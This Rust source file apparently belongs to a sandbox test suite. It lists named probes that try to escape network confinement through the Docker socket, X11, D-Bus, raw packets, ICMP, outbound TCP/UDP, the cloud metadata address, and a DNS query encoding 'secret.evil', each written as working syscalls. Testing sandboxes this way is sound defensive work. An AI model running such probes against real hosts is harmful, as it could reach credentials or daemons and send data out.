//! Sockets: Unix ones by path and by name, and those of the network.

use crate::call;
use crate::sys::*;
use crate::world::World;
use crate::Named;

const STREAM: usize = 1;
const DATAGRAM: usize = 2;
const RAW: usize = 3;
const PACKETS: usize = 5;
const WITHOUT_WAITING: usize = 0o4000;
const FAST_OPEN: usize = 0x20000000;
const OUTSIDE: [u8; 4] = [93, 184, 216, 36];
const OUTSIDE6: [u16; 8] = [0x2001, 0xdb8, 0, 0, 0, 0, 0, 1];

pub const ATTACKS: &[Named] = &[
    ("each-socket-of-the-host", |world| each(world, "sockets", STREAM)),
    ("each-datagram-of-the-host", |world| each(world, "datagrams", DATAGRAM)),
    ("docker-socket", |_| says(STREAM, "/run/docker.sock")),
    ("x11-path", |_| says(STREAM, "/tmp/.X11-unix/X0")),
    ("x11-abstract", |_| says(STREAM, "@/tmp/.X11-unix/X0")),
    ("dbus-session-abstract", |_| says(STREAM, "@/tmp/dbus-session")),
    ("abstract-socket", |_| says(STREAM, "@goobits-agent")),
    ("socket-in-project", |_| says(STREAM, "app.sock")),
    ("packets-in-project", |_| says(PACKETS, "packets.sock")),
    ("packets-abstract", |_| says(PACKETS, "@goobits-packets")),
    ("raw-kind-of-unix", |_| sends(call!(SOCKET, 1, RAW, 0)?, "log.sock")),
    ("family-with-high-bits", |_| connects(call!(SOCKET, 1 | 1usize << 32, 1, 0)?, "app.sock")),
    ("kind-with-high-bits", |_| sends(call!(SOCKET, 1, 2 | 1usize << 32, 0)?, "log.sock")),
    ("datagram-by-pair", |_| sends(pair(DATAGRAM)?, "log.sock")),
    ("datagram-by-pair-abstract", |_| sends(pair(DATAGRAM)?, "@goobits-log")),
    ("reconnected-pair", |_| connects(pair(DATAGRAM)?, "log.sock")),
    ("pair-connected-to-nobody-first", pair_connected_to_nobody_first),
    ("message-to-name", |_| message(pair(DATAGRAM)?, "log.sock", false)),
    ("many-messages-to-a-name", |_| message(pair(DATAGRAM)?, "@goobits-log", true)),
    ("socket-by-path-descriptor", socket_by_path_descriptor),
    ("socket-listens-by-itself", socket_listens_by_itself),
    ("fifo-both-ways", fifo_both_ways),
    ("tcp-to-the-internet", |_| tcp(0, OUTSIDE, 80)),
    ("tcp-to-services-of-the-host", |_| tcp(0, [127, 0, 0, 1], 5432)),
    ("tcp-by-the-bare-call", tcp_by_the_bare_call),
    ("tcp-by-a-datagram-address", |_| {
        let mapped = [0, 0, 0, 0, 0, 0xFFFF, 0x5DB8, 0xD824];
        calls(call!(SOCKET, 10, STREAM | WITHOUT_WAITING, 0)?, &v6(mapped, 80))
    }),
    ("udp-to-the-internet", |_| datagram(2, DATAGRAM, 0, &v4(OUTSIDE, 9999))),
    ("udp-lite", |_| datagram(2, DATAGRAM, 136, &v4(OUTSIDE, 9999))),
    ("udp-by-many-messages", |_| {
        let fd = call!(SOCKET, 2, DATAGRAM, 0)?;
        message_at(fd, &v4(OUTSIDE, 9999), true)
    }),
    ("dns-over-udp", dns_over_udp),
    ("icmp-echo", |_| echo(2, 1, 8, &v4(OUTSIDE, 0))),
    ("icmp-echo-of-ipv6", |_| echo(10, 58, 128, &v6(OUTSIDE6, 0))),
    ("raw-packet", |_| datagram(2, RAW, 253, &v4(OUTSIDE, 0))),
    ("raw-packet-with-a-header", raw_packet_with_a_header),
    ("raw-frame", raw_frame),
    ("raw-frames-are-heard", |_| call!(SOCKET, 17, DATAGRAM, 0x0300).map(|_| true)),
    ("packets-of-the-old-kind", |_| call!(SOCKET, 2, 10, 0x0300).map(|_| true)),
    ("ipv6-to-the-internet", |_| {
        calls(call!(SOCKET, 10, STREAM | WITHOUT_WAITING, 0)?, &v6(OUTSIDE6, 80))
    }),
    ("ipv6-to-services-of-the-host", |_| {
        let fd = call!(SOCKET, 10, STREAM | WITHOUT_WAITING, 0)?;
        calls(fd, &v6([0, 0, 0, 0, 0, 0, 0, 1], 5432))
    }),
    ("mptcp-to-the-internet", |_| tcp(262, OUTSIDE, 443)),
    ("fast-open-sends-first", |_| {
        let fd = call!(SOCKET, 2, STREAM | WITHOUT_WAITING, 0)?;
        sends_at(fd, FAST_OPEN, &v4(OUTSIDE, 80))
    }),
    ("fast-open-with-high-bits", |_| {
        let fd = call!(SOCKET, 2, STREAM | WITHOUT_WAITING, 0)?;
        sends_at(fd, FAST_OPEN | 1 << 32, &v4(OUTSIDE, 80))
    }),
    ("fast-open-of-multipath", |_| {
        let fd = call!(SOCKET, 2, STREAM | WITHOUT_WAITING, 262)?;
        sends_at(fd, FAST_OPEN, &v4(OUTSIDE, 80))
    }),
    ("fast-open-by-an-option", fast_open_by_an_option),
    ("metadata-of-the-cloud", |_| tcp(0, [169, 254, 169, 254], 80)),
    ("netlink-lists-links", netlink_lists_links),
];

fn bytes_of(name: &str) -> Vec<u8> {
    let path = match name.strip_prefix('@') {
        Some(rest) => [b"\0", rest.as_bytes()].concat(),
        None => c(name),
    };
    [&[1, 0], path.as_slice()].concat()
}

pub fn v4(address: [u8; 4], port: u16) -> Vec<u8> {
    [&[2, 0], port.to_be_bytes().as_slice(), &address, &[0; 8]].concat()
}

fn v6(address: [u16; 8], port: u16) -> Vec<u8> {
    let words = address.iter().flat_map(|word| word.to_be_bytes()).collect::<Vec<u8>>();
    [&[10, 0], port.to_be_bytes().as_slice(), &[0; 4], &words, &[0; 4]].concat()
}

fn pair(kind: usize) -> Result<usize> {
    let mut both = [0i32; 2];
    call!(SOCKETPAIR, 1, kind | WITHOUT_WAITING, 0, both.as_mut_ptr())?;
    Ok(both[0] as usize)
}

/// Connect, and say a word; what waits is given a moment.
fn calls(fd: usize, address: &[u8]) -> Answer {
    match call!(CONNECT, fd, address.as_ptr(), address.len()) {
        Ok(_) => (),
        Err(115) => sleep(0.1),
        Err(number) => return Err(number),
    }
    call!(WRITE, fd, c"GET / HTTP/1.0\r\n\r\n".as_ptr(), 18)?;
    sleep(0.05);
    let mut held = [0u8; 4096];
    let length = call!(RECVFROM, fd, held.as_mut_ptr(), held.len(), 0x40, 0, 0)?;
    say(&held[..length]);
    Ok(false)
}

fn connects(fd: usize, name: &str) -> Answer {
    calls(fd, &bytes_of(name))
}

fn says(kind: usize, name: &str) -> Answer {
    connects(call!(SOCKET, 1, kind | WITHOUT_WAITING, 0)?, name)
}

fn sends(fd: usize, name: &str) -> Answer {
    sends_at(fd, 0, &bytes_of(name))
}

fn sends_at(fd: usize, flags: usize, address: &[u8]) -> Answer {
    call!(SENDTO, fd, c"hello".as_ptr(), 5, flags, address.as_ptr(), address.len())?;
    sleep(0.05);
    Ok(false)
}

fn each(world: &World, names: &str, kind: usize) -> Answer {
    for name in world.list(names) {
        let socket = call!(SOCKET, 1, kind | WITHOUT_WAITING, 0).or_else(|_| pair(kind));
        let answer = socket.and_then(|fd| connects(fd, &name));
        println!("{name}: {answer:?}");
    }
    Ok(false)
}

/// A connection to AF_UNSPEC takes a socket back to where it was before its first.
fn pair_connected_to_nobody_first(_: &World) -> Answer {
    let fd = pair(STREAM)?;
    let nobody = [0u8; 16];
    let _ = call!(CONNECT, fd, nobody.as_ptr(), 16);
    let fd = pair(DATAGRAM)?;
    call!(CONNECT, fd, nobody.as_ptr(), 16)?;
    connects(fd, "@goobits-log")
}

fn message(fd: usize, name: &str, many: bool) -> Answer {
    message_at(fd, &bytes_of(name), many)
}

fn message_at(fd: usize, address: &[u8], many: bool) -> Answer {
    let part = [c"hello".as_ptr() as usize, 5];
    let mut head = [0usize; 8];
    (head[0], head[1]) = (address.as_ptr() as usize, address.len());
    (head[2], head[3]) = (part.as_ptr() as usize, 1);
    if many {
        call!(SENDMMSG, fd, head.as_ptr(), 1, 0)?;
    } else {
        call!(SENDMSG, fd, head.as_ptr(), 0)?;
    }
    Ok(false)
}

/// The name of a socket can be that of a descriptor of its file.
fn socket_by_path_descriptor(_: &World) -> Answer {
    let fd = open("app.sock", O_PATH)?;
    says(STREAM, &format!("/proc/self/fd/{fd}"))
}

fn socket_listens_by_itself(_: &World) -> Answer {
    let fd = call!(SOCKET, 1, STREAM, 0)?;
    let name = bytes_of("@goobits-own");
    call!(BIND, fd, name.as_ptr(), name.len())?;
    call!(LISTEN, fd, 1).map(|_| true)
}

fn fifo_both_ways(_: &World) -> Answer {
    let fifo = open("control.fifo", O_RDWR | WITHOUT_WAITING)?;
    call!(WRITE, fifo, c"evil".as_ptr(), 4).map(|_| false)
}

fn tcp(protocol: usize, address: [u8; 4], port: u16) -> Answer {
    calls(call!(SOCKET, 2, STREAM | WITHOUT_WAITING, protocol)?, &v4(address, port))
}

fn tcp_by_the_bare_call(_: &World) -> Answer {
    calls(call!(SOCKET, 2 | 1usize << 32, STREAM | WITHOUT_WAITING, 6)?, &v4(OUTSIDE, 9999))
}

fn datagram(family: usize, kind: usize, protocol: usize, address: &[u8]) -> Answer {
    sends_at(call!(SOCKET, family, kind, protocol)?, 0, address)
}

fn dns_over_udp(_: &World) -> Answer {
    let fd = call!(SOCKET, 2, DATAGRAM, 0)?;
    let question = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x06secret\x04evil\0\0\x01\0\x01";
    for to in [[127, 0, 0, 1], [8, 8, 8, 8]] {
        let at = v4(to, 53);
        call!(SENDTO, fd, question.as_ptr(), question.len(), 0, at.as_ptr(), at.len())?;
    }
    Ok(false)
}

fn echo(family: usize, protocol: usize, kind: u8, address: &[u8]) -> Answer {
    let fd = call!(SOCKET, family, DATAGRAM, protocol)?;
    let asked = [kind, 0, 0, 0, 0, 0, 0, 0];
    call!(SENDTO, fd, asked.as_ptr(), 8, 0, address.as_ptr(), address.len()).map(|_| false)
}

fn raw_packet_with_a_header(_: &World) -> Answer {
    let fd = call!(SOCKET, 2, RAW, 255)?;
    let mut packet = vec![0x45, 0, 0, 28, 0, 0, 0, 0, 64, 253, 0, 0, 10, 9, 8, 7];
    packet.extend(OUTSIDE);
    packet.extend(b"hello...");
    let at = v4(OUTSIDE, 0);
    call!(SENDTO, fd, packet.as_ptr(), packet.len(), 0, at.as_ptr(), at.len()).map(|_| false)
}

fn raw_frame(_: &World) -> Answer {
    let fd = call!(SOCKET, 17, RAW, 0)?;
    let mut at = words(&[17, 1, 0, 0, 0]); // sockaddr_ll of the first interface
    at[2..4].copy_from_slice(&[0x88, 0xB5]);
    let mut frame = vec![0u8; 12];
    frame.extend([0x88, 0xB5]);
    frame.extend([b'h'; 60]);
    call!(SENDTO, fd, frame.as_ptr(), frame.len(), 0, at.as_ptr(), 20).map(|_| false)
}

fn fast_open_by_an_option(_: &World) -> Answer {
    let fd = call!(SOCKET, 2, STREAM | WITHOUT_WAITING, 0)?;
    call!(SETSOCKOPT, fd, 6, 30, words(&[1]).as_ptr(), 4)?;
    calls(fd, &v4(OUTSIDE, 80))
}

fn netlink_lists_links(_: &World) -> Answer {
    let fd = call!(SOCKET, 16, RAW, 0)?;
    let asked = words(&[36, 18 | 0x301 << 16, 1, 0, 0, 0, 0, 0, 0]);
    call!(WRITE, fd, asked.as_ptr(), 36)?;
    let mut held = vec![0u8; 65536];
    call!(RECVFROM, fd, held.as_mut_ptr(), held.len(), 0, 0, 0)?;
    Ok(held[4] == 16)
}
